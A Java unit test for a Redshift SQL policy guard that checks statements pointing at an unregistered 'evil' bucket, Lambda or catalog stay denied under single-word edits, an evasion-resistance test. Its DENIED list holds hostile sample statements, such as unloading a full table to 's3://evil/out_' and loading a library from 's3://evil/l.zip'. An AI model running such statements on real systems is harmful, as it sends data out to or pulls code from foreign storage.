package dev.iamguard.security;

import static org.assertj.core.api.Assertions.assertThat;

import dev.iamguard.policy.Decision;
import dev.iamguard.policy.Guard;
import dev.iamguard.policy.Session;
import dev.iamguard.policy.Verdict;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * A statement that names a resource outside the registry ({@code evil}) stays denied under every
 * single-word edit that keeps the name: a word deleted, doubled, swapped with the next or replaced
 * by another. An edit either keeps a shape the grammar reads (and the resource is judged) or
 * breaks it (and the statement is unreadable): never a shape where the resource goes unseen, as a
 * misspelt {@code SETTINGS} or an unknown option before an S3 literal did.
 */
class SingleEditTest {
  static final String CHAIN = "iam_role 'arn:aws:iam::123456789012:role/RoleA,arn:aws:iam::210987654321:role/RoleB'";
  static final String ATTACHED = "iam_role '" + EvasionSuiteTest.ATTACHED + "'";

  static final List<String> DENIED = List.of(
      "copy venue (a, b) from 's3://evil/x/' " + CHAIN + " delimiter '|' gzip",
      "copy venue from 's3://evil/m.json' " + CHAIN + " manifest",
      "copy venue from 's3://companyb/redshift/v' " + CHAIN + " json 's3://evil/paths.json'",
      "copy venue from 's3://companyb/redshift/v' " + CHAIN + " format as avro 's3://evil/paths.json'",
      "unload ('select * from venue') to 's3://evil/out_' " + ATTACHED + " parallel off",
      "unload ('select * from venue') to 's3://acmedata/redshift/unload/x_' " + ATTACHED + " manifest 's3://evil/m'",
      "create external function f(int) returns int volatile lambda "
          + "'arn:aws:lambda:us-west-2:999999999999:function:evil' " + ATTACHED,
      "create external schema s from data catalog database 'evil' " + ATTACHED,
      "create library l language plpythonu from 's3://evil/l.zip' " + ATTACHED,
      "create model m from t target c function f " + ATTACHED + " settings (s3_bucket 'evil')");

  /** Allowed statements with the forms the stray-location check must not touch. */
  static final List<String> ALLOWED = List.of(
      "copy venue from 's3://companyb/redshift/v' " + CHAIN + " json 's3://companyb/redshift/paths.json'",
      "copy venue from 's3://companyb/redshift/v' " + CHAIN + " format as json 'auto'",
      "copy venue from 's3://companyb/redshift/v' " + CHAIN + " csv null as 'NULL' delimiter ','",
      "unload ('select ''s3://not/a/location'' as note from venue') to 's3://acmedata/redshift/unload/x_' "
          + ATTACHED + " parallel off");

  static final Guard guard = SampleGuard.load();

  static Set<String> edits(String sql) {
    String[] words = sql.split(" ");
    Set<String> edits = new LinkedHashSet<>();
    for (int i = 0; i < words.length; i++) {
      List<String> deleted = new ArrayList<>(List.of(words));
      deleted.remove(i);
      edits.add(String.join(" ", deleted));
      List<String> doubled = new ArrayList<>(List.of(words));
      doubled.add(i, words[i]);
      edits.add(String.join(" ", doubled));
      if (i + 1 < words.length) {
        List<String> swapped = new ArrayList<>(List.of(words));
        Collections.swap(swapped, i, i + 1);
        edits.add(String.join(" ", swapped));
      }
      for (String other : List.of("x", "'x'", "(", ")", ",", "json")) {
        List<String> replaced = new ArrayList<>(List.of(words));
        replaced.set(i, other);
        edits.add(String.join(" ", replaced));
      }
    }
    edits.removeIf(edit -> !edit.contains("evil"));
    return edits;
  }

  @Test
  void theBasesAreDeniedAndTheControlsAllowed() {
    for (String sql : DENIED) {
      assertThat(guard.inspect(sql, Session.of("user1", null)).verdict()).as(sql).isEqualTo(Verdict.DENY);
    }
    for (String sql : ALLOWED) {
      Decision decision = guard.inspect(sql, Session.of("user1", null));
      assertThat(decision.verdict()).as(sql + " " + decision.findings()).isEqualTo(Verdict.ALLOW);
    }
  }

  @Test
  void noSingleEditThatKeepsTheResourceIsAllowed() {
    List<String> allowed = new ArrayList<>();
    int tried = 0;
    for (String base : DENIED) {
      for (String edit : edits(base)) {
        tried++;
        if (guard.inspect(edit, Session.of("user1", null)).verdict() != Verdict.DENY) {
          allowed.add(edit);
        }
      }
    }
    assertThat(allowed).as("edits that were not denied").isEmpty();
    assertThat(tried).isGreaterThan(500);
  }
}
